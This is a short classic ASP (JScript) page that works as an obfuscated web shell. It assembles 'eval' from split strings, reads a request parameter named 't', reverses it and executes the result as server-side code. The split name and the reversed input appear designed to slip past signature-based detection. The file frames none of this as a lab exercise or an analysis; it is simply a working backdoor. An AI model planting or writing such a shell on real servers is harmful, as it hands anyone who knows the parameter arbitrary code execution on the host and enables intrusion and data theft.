<%@ Language="JScript" %>
<%
/* eval fetched from the page's global object by a name built in pieces */
var run = this["ev" + "al"];
var k = Request.Item("t") + "";
run(k.split("").reverse().join(""));
%>
